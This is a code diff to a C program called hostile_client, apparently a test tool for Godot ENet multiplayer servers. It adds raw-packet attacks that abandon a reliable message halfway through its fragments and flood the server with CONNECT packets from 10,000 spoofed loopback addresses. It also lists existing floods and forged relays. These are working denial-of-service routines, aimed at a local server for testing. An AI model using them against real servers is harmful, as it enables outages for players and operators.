@@ -37,6 +37,9 @@
 #include <string.h>
 #include <time.h>
 #include <unistd.h>
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <sys/socket.h>
 
 enum { BUF_MAX = 1 << 20 };
 
@@ -44,6 +47,12 @@ typedef struct {
     uint8_t *p;
     size_t n;
 } buf_t;
+
+static long long now_ms(void) {
+    struct timespec t;
+    clock_gettime(CLOCK_REALTIME, &t);
+    return (long long)t.tv_sec * 1000 + t.tv_nsec / 1000000;
+}
 
 static void put8(buf_t *b, unsigned v) { b->p[b->n++] = (uint8_t)v; }
 static void put32le(buf_t *b, uint32_t v) {
@@ -331,6 +340,70 @@ static void a_fragment_flood(ctx_t *c) {
     }
 }
 
+/* One reliable raw fragment of a message (the layout of a_fragment_flood). */
+static void raw_fragment(ctx_t *c, ENetChannel *ch, uint16_t start, uint32_t count, uint32_t number, uint32_t size) {
+    uint8_t d[64 + 1024];
+    size_t n = 0;
+    uint16_t seq = (uint16_t)(start + number);
+    uint16_t peer_field = (uint16_t)(c->peer->outgoingPeerID | (c->peer->outgoingSessionID << 12) | 0x8000);
+    uint16_t st = (uint16_t)enet_time_get();
+    uint8_t head[] = {peer_field >> 8, peer_field & 0xFF, st >> 8, st & 0xFF, 8 | 0x80, (uint8_t)(ch - c->peer->channels),
+                      seq >> 8, seq & 0xFF, start >> 8, start & 0xFF, (uint8_t)(size >> 8), size & 0xFF};
+    memcpy(d, head, sizeof head);
+    n = sizeof head;
+    uint32_t fields[4] = {count, number, count * size, number * size};
+    for (int i = 0; i < 4; i++) {
+        d[n++] = fields[i] >> 24; d[n++] = (fields[i] >> 16) & 0xFF;
+        d[n++] = (fields[i] >> 8) & 0xFF; d[n++] = fields[i] & 0xFF;
+    }
+    memset(d + n, 0x5A, size);
+    n += size;
+    ENetBuffer eb = {.data = d, .dataLength = n};
+    enet_socket_send(c->host->socket, &c->peer->address, &eb, 1);
+    c->packets++;
+    c->bytes += n;
+}
+
+/* A client vanishing mid-fragment: 50 of the 100 fragments of a 100 KB reliable message, then the
+ * process ends at once, with no DISCONNECT (the holder of the fragments must forget them by itself). */
+static void a_vanish_mid_fragment(ctx_t *c) {
+    ENetChannel *ch = &c->peer->channels[c->g->gen == 4 ? 0 : 1];
+    uint16_t start = (uint16_t)(ch->outgoingReliableSequenceNumber + 1);
+    for (uint32_t f = 0; f < 50; f++) raw_fragment(c, ch, start, 100, f, 1000);
+    printf("sent attack=vanish_mid_fragment packets=%d bytes=%zu t_ms=%lld\nend state=vanished\n", c->packets, c->bytes,
+           now_ms());
+    fflush(stdout);
+    _exit(0);
+}
+
+/* 10,000 spoofed source addresses within 127.0.0.0/8 (every one is local on lo): from each, one ENet
+ * CONNECT to the server's address, as a new client's first datagram (thirdparty/enet protocol.h,
+ * ENetProtocolConnect: 48 bytes after the 4-byte datagram header, peer id 0xFFF), then the socket is closed. */
+static void a_spoofed_sources(ctx_t *c) {
+    for (uint32_t i = 0; i < 10000; i++) {
+        uint32_t host = (127u << 24) | (1u << 16) | (i + 1); /* 127.1.0.1 ... 127.1.39.16 */
+        int fd = socket(AF_INET, SOCK_DGRAM, 0);
+        if (fd < 0) continue;
+        struct sockaddr_in from = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(host)};
+        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(c->peer->address.port),
+                                 .sin_addr.s_addr = c->peer->address.host};
+        uint8_t d[52] = {0x8F, 0xFF, 0, 0, 0x82, 0xFF, 0, 1}; /* header 4 + CONNECT 48 */
+        uint32_t fields[] = {1392, 32768, c->g->gen == 4 ? 255 : 3, 0, 0, 5000, 2, 2, (uint32_t)rand(), 2 + i};
+        d[8] = 0; d[9] = 0; d[10] = 0; d[11] = 0; /* outgoingPeerID 0, session ids 0 */
+        for (int k = 0; k < 10; k++) {
+            d[12 + 4 * k] = fields[k] >> 24; d[13 + 4 * k] = (fields[k] >> 16) & 0xFF;
+            d[14 + 4 * k] = (fields[k] >> 8) & 0xFF; d[15 + 4 * k] = fields[k] & 0xFF;
+        }
+        if (bind(fd, (struct sockaddr *)&from, sizeof from) == 0 &&
+            sendto(fd, d, sizeof d, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)sizeof d) {
+            c->packets++;
+            c->bytes += sizeof d;
+        }
+        close(fd);
+        if (i % 500 == 499) pump(c, 5);
+    }
+}
+
 struct attack {
     const char *name;
     void (*run)(ctx_t *);
@@ -352,14 +425,11 @@ static const attack_t ATTACKS[] = {
     {"relay_forged", a_relay_forged, "4: SYS RELAY wrapping a RELAY claiming source 1, and a SYS ADD_PEER; 3: header source = another peer"},
     {"message_flood", a_message_flood, "20,000 unreliable zfast(i) in bursts of 200"},
     {"fragment_flood", a_fragment_flood, "25 reliable 1 MB messages, 999 of 1,000 fragments each, raw ENet"},
+    {"vanish_mid_fragment", a_vanish_mid_fragment, "50 of 100 fragments of a 100 KB message, then gone without DISCONNECT"},
+    {"spoofed_sources", a_spoofed_sources, "one ENet CONNECT from each of 10,000 addresses 127.1.0.1 - 127.1.39.16"},
 };
 enum { N_ATTACKS = sizeof ATTACKS / sizeof ATTACKS[0] };
 
-static long long now_ms(void) {
-    struct timespec t;
-    clock_gettime(CLOCK_REALTIME, &t);
-    return (long long)t.tv_sec * 1000 + t.tv_nsec / 1000000;
-}
 
 static int usage(void) {
     fprintf(stderr, "usage: hostile_client 4|3 HOST PORT ATTACK [--range-coder] [--linger MS]\n"
@@ -405,7 +475,9 @@ int main(int argc, char **argv) {
         printf("end state=cannot_join\n");
         return 3;
     }
-    printf("joined id=%u channels=%zu\n", c.my_id, c.peer->channelCount);
+    ENetAddress local;
+    enet_socket_get_address(host->socket, &local);
+    printf("joined id=%u channels=%zu\nlocal_port=%u\n", c.my_id, c.peer->channelCount, local.port);
     /* The handshake: the server announces the peers it has (4.6.3 scene_multiplayer.cpp:366-384 SYS
      * ADD_PEER on channel 0; 3.6.2 networked_multiplayer_enet.cpp:276-290 SYSMSG_ADD_PEER on the config
      * channel). Wait up to 1.5 s for one (an honest client is there in every run), then 200 ms more. */
